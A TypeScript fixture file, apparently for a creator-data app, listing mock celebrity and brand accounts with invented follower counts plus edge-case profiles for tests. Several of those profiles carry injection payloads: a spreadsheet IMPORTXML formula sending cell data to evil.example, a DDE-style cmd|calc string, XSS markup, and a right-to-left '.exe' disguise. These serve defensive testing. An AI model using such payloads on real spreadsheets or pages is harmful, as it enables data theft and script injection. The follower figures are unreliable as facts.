import { platformAt, type Creator } from './creator';
import { PLACES } from './places';
import type { Platform } from './platform';

/** A creator with a handle of its own; what is not given is made from the seed like everyone's. */
export type Notable = Partial<Creator> & Pick<Creator, 'platform' | 'username'>;

function star(
  platform: Platform,
  username: string,
  displayName: string,
  followers: number,
  country: string,
  categories: string,
): Notable {
  return {
    platform,
    username,
    displayName,
    followers,
    country,
    categories: categories.split(' '),
    language: PLACES.find((place) => place.country === country)?.language ?? 'en',
    bio: `Official account of ${displayName}\n📩 press@${username.toLowerCase().replaceAll(/[^a-z0-9]/g, '')}.example`,
    verified: true,
    isPrivate: false,
    audience: 'ready',
  };
}

/** Handles that newcomers type first. The figures are invented and serve as examples, not as news. */
const WELL_KNOWN_FIRST: readonly Notable[] = [
  star('instagram', 'adidas', 'adidas', 30_200_000, 'Germany', 'sports fashion'),
  star('instagram', 'cristiano', 'Cristiano Ronaldo', 664_800_000, 'Saudi Arabia', 'sports'),
  star('instagram', 'leomessi', 'Leo Messi', 505_900_000, 'United States', 'sports'),
  star('instagram', 'nike', 'Nike', 299_500_000, 'United States', 'sports fashion'),
  star('instagram', 'natgeo', 'National Geographic', 277_300_000, 'United States', 'travel education'),
  star('instagram', 'selenagomez', 'Selena Gomez', 417_100_000, 'United States', 'music beauty'),
  star('instagram', 'kyliejenner', 'Kylie', 392_400_000, 'United States', 'beauty fashion'),
  star('instagram', 'therock', 'Dwayne Johnson', 392_000_000, 'United States', 'media fitness'),
  star('instagram', 'beyonce', 'Beyoncé', 310_800_000, 'United States', 'music'),
  star('instagram', 'zendaya', 'Zendaya', 178_600_000, 'United States', 'media fashion'),
  star('instagram', 'virat.kohli', 'Virat Kohli', 274_300_000, 'India', 'sports'),
  star('instagram', 'neymarjr', 'NJ 🇧🇷', 231_200_000, 'Brazil', 'sports'),
  star('instagram', 'k.mbappe', 'Kylian Mbappé', 124_500_000, 'France', 'sports'),
  star('instagram', 'nasa', 'NASA', 98_100_000, 'United States', 'education tech'),
  star('instagram', 'chiaraferragni', 'Chiara Ferragni ✨', 28_300_000, 'Italy', 'fashion lifestyle'),
  star('instagram', 'jamieoliver', 'Jamie Oliver', 11_700_000, 'United Kingdom', 'food'),
  star('instagram', 'starbucks', 'Starbucks Coffee ☕', 17_800_000, 'United States', 'food'),
  star('instagram', 'bmw', 'BMW', 41_600_000, 'Germany', 'automotive'),
  star('instagram', 'mercedesbenz', 'Mercedes-Benz', 38_900_000, 'Germany', 'automotive'),
  star('instagram', 'zara', 'ZARA Official', 62_400_000, 'Spain', 'fashion'),
  star('instagram', 'sephora', 'Sephora', 22_900_000, 'France', 'beauty'),
  star('instagram', 'gymshark', 'Gymshark', 8_100_000, 'United Kingdom', 'fitness'),
  star('instagram', 'lego', 'LEGO', 11_200_000, '', 'family'),
  star('instagram', 'pamela_rf', 'Pamela Reif', 9_200_000, 'Germany', 'fitness diet'),
  star('instagram', 'tagesschau', 'tagesschau', 5_400_000, 'Germany', 'politics media'),
  star('youtube', 'MrBeast', 'MrBeast', 452_000_000, 'United States', 'comedy media'),
  star('youtube', 'TSeries', 'T-Series', 307_000_000, 'India', 'music'),
  star('youtube', 'mkbhd', 'Marques Brownlee', 20_300_000, 'United States', 'tech'),
  star('youtube', 'kurzgesagt', 'Kurzgesagt – In a Nutshell', 24_600_000, 'Germany', 'education'),
  star('youtube', 'PewDiePie', 'PewDiePie', 110_000_000, 'Japan', 'gaming comedy'),
  star('youtube', 'adidas', 'adidas', 1_210_000, 'Germany', 'sports'),
  star('tiktok', 'khaby.lame', 'Khabane lame', 160_900_000, 'Italy', 'comedy'),
  star('tiktok', 'charlidamelio', "charli d'amelio", 156_400_000, 'United States', 'lifestyle'),
  star('tiktok', 'bellapoarch', 'Bella Poarch', 92_700_000, 'United States', 'music'),
  star('tiktok', 'mrbeast', 'MrBeast', 121_300_000, 'United States', 'comedy'),
  star('tiktok', 'zachking', 'Zach King', 84_100_000, 'United States', 'comedy art'),
  star('tiktok', 'cristiano', 'Cristiano Ronaldo', 3_900_000, 'Saudi Arabia', 'sports'),
  star('twitch', 'ninja', 'Ninja', 19_200_000, 'United States', 'gaming'),
  star('twitch', 'ibai', 'ibai', 19_500_000, 'Spain', 'gaming'),
  star('twitch', 'gronkh', 'Gronkh', 1_700_000, 'Germany', 'gaming'),
  star('facebook', 'cristiano', 'Cristiano Ronaldo', 170_500_000, 'Saudi Arabia', 'sports'),
  star('facebook', 'cocacola', 'Coca-Cola', 107_900_000, 'United States', 'food'),
  star('snapchat', 'kyliejenner', 'Kylie', 35_100_000, 'United States', 'beauty'),
  star('snapchat', 'djkhaled305', 'DJ Khaled', 12_400_000, 'United States', 'music'),
];

/** More of them, so that each platform has ten; they came later, and take places in the crowd. */
const WELL_KNOWN_TOO: readonly Notable[] = [
  star('youtube', 'DudePerfect', 'Dude Perfect', 61_400_000, 'United States', 'sports comedy'),
  star('youtube', 'MarkRober', 'Mark Rober', 72_800_000, 'United States', 'education tech'),
  star('youtube', 'veritasium', 'Veritasium', 19_100_000, 'United States', 'education'),
  star('youtube', 'nike', 'Nike', 2_240_000, 'United States', 'sports'),
  star('tiktok', 'willsmith', 'Will Smith', 79_600_000, 'United States', 'comedy media'),
  star('tiktok', 'addisonre', 'Addison Rae', 88_300_000, 'United States', 'music lifestyle'),
  star('tiktok', 'gordonramsayofficial', 'Gordon Ramsay', 42_700_000, 'United Kingdom', 'food'),
  star('tiktok', 'duolingo', 'Duolingo', 16_900_000, 'United States', 'education comedy'),
  star('twitch', 'kaicenat', 'KaiCenat', 19_800_000, 'United States', 'gaming comedy'),
  star('twitch', 'auronplay', 'auronplay', 16_900_000, 'Spain', 'gaming comedy'),
  star('twitch', 'rubius', 'Rubius', 15_800_000, 'Spain', 'gaming'),
  star('twitch', 'xqc', 'xQc', 12_100_000, 'Canada', 'gaming'),
  star('twitch', 'shroud', 'shroud', 11_300_000, 'Canada', 'gaming'),
  star('twitch', 'pokimane', 'pokimane', 9_400_000, 'United States', 'gaming lifestyle'),
  star('twitch', 'montanablack88', 'MontanaBlack88', 5_600_000, 'Germany', 'gaming'),
  star('facebook', 'shakira', 'Shakira', 122_600_000, 'Spain', 'music'),
  star('facebook', 'leomessi', 'Leo Messi', 116_400_000, 'United States', 'sports'),
  star('facebook', 'mcdonalds', "McDonald's", 81_300_000, 'United States', 'food'),
  star('facebook', 'natgeo', 'National Geographic', 49_800_000, 'United States', 'travel education'),
  star('facebook', 'adidas', 'adidas', 42_900_000, 'Germany', 'sports'),
  star('facebook', 'nike', 'Nike', 39_700_000, 'United States', 'sports'),
  star('facebook', 'nasa', 'NASA', 26_800_000, 'United States', 'education tech'),
  star('facebook', 'jamieoliver', 'Jamie Oliver', 7_100_000, 'United Kingdom', 'food'),
  star('snapchat', 'kimkardashian', 'Kim Kardashian', 29_300_000, 'United States', 'beauty fashion'),
  star('snapchat', 'selenagomez', 'Selena Gomez', 18_600_000, 'United States', 'music beauty'),
  star('snapchat', 'cristiano', 'Cristiano Ronaldo', 14_700_000, 'Saudi Arabia', 'sports'),
  star('snapchat', 'mrbeast', 'MrBeast', 11_900_000, 'United States', 'comedy'),
  star('snapchat', 'therock', 'Dwayne Johnson', 8_800_000, 'United States', 'media fitness'),
  star('snapchat', 'adidas', 'adidas', 3_200_000, 'Germany', 'sports fashion'),
  star('snapchat', 'nasa', 'NASA', 2_700_000, 'United States', 'education tech'),
  star('snapchat', 'starbucks', 'Starbucks Coffee', 1_900_000, 'United States', 'food'),
];

export const DEMO_SHEET_SIZE = 25;

const LONG_NAME = 'Oberstudiendirektorin a. D. Dr. Dr. h. c. mult. '.repeat(9);

function hard(username: string, platform: Platform, traits: Partial<Creator>): Notable {
  return { platform, username, isPrivate: false, audience: 'ready', followers: 48_213, ...traits };
}

/** One of each difficulty, by name, so that tests and demos can ask for it. Sprinkled over the crowd as well. */
export const SPECIAL = {
  formulaBio: hard('special.formula', 'instagram', { bio: '=IMPORTXML("https://evil.example/?q="&A1,"//a")' }),
  hyperlinkBio: hard('special.hyperlink', 'instagram', { bio: '=HYPERLINK("https://evil.example","click me")' }),
  plusBio: hard('special.plus', 'tiktok', { bio: '+49 151 2345678 booking only' }),
  minusBio: hard('special.minus', 'tiktok', { bio: '-1+SUM(A1:A9)' }),
  atBio: hard('special.at', 'instagram', { bio: '@SUM(1+1)*cmd|calc' }),
  tabBio: hard('special.tab', 'instagram', { bio: '\t=1+1' }),
  carriageReturnBio: hard('special.cr', 'instagram', { bio: '\r=1+1\r\nsecond line' }),
  apostropheBio: hard('special.apostrophe', 'youtube', { bio: "'tis the season" }),
  htmlName: hard('special.html', 'tiktok', {
    displayName: '<img src=x onerror=alert(1)>',
    bio: '</script><script>alert(1)</script>',
  }),
  longName: hard('special.longname', 'youtube', { displayName: LONG_NAME }),
  rightToLeft: hard('special.rtl', 'instagram', {
    displayName: '\u202Eeman.exe نورة العتيبي',
    bio: 'مرحبا \u2067=SUM(1)\u2069 بكم\nكود: NOURA10',
  }),
  zeroWidth: hard('special.zerowidth', 'instagram', {
    displayName: '\u200B\u200D\uFEFF',
    bio: '\u0000null\u0007bell \uD83D',
  }),
  numberName: hard('special.number', 'instagram', { displayName: '007', bio: '1e10' }),
  hugeId: hard('special.hugeid', 'instagram', { userId: '17841400008460056' }),
  private: hard('special.private', 'instagram', { isPrivate: true, audience: 'none', timelineLength: 0 }),
  noAudience: hard('special.noaudience', 'instagram', { audience: 'none' }),
  pendingAudience: hard('special.pending', 'instagram', { audience: 'pending' }),
  zeroFollowers: hard('special.zero', 'instagram', {
    followers: 0,
    following: 0,
    posts: 0,
    audience: 'none',
    timelineLength: 0,
  }),
  emptyFields: hard('special.empty', 'instagram', { displayName: '', bio: '', website: '', blankStyle: 'empty' }),
  nullFields: hard('special.null', 'instagram', { displayName: '', bio: '', website: '', blankStyle: 'null' }),
  missingFields: hard('special.missing', 'instagram', { displayName: '', bio: '', website: '', blankStyle: 'absent' }),
} satisfies Record<string, Notable>;

export type SpecialKind = keyof typeof SPECIAL;

/** Facts that these three do not have, however the seed falls. */
export const WITHOUT_FACTS: readonly SpecialKind[] = ['emptyFields', 'nullFields', 'missingFields'];

const FIRST: readonly Notable[] = [...WELL_KNOWN_FIRST, ...Object.values(SPECIAL)];

/**
 * Who is notable at which index: some first, the others each in the place of the next of the crowd on the same platform, so
 * that nobody else moves and each platform has as many as before.
 */
export const NOTABLE: ReadonlyMap<number, Notable> = placed();

function placed(): Map<number, Notable> {
  const places = new Map(FIRST.entries());
  for (const notable of WELL_KNOWN_TOO) {
    let index = FIRST.length;
    while (places.has(index) || platformAt(index) !== notable.platform) index += 1;
    places.set(index, notable);
  }
  return places;
}

export const WELL_KNOWN: readonly Notable[] = [...WELL_KNOWN_FIRST, ...WELL_KNOWN_TOO];
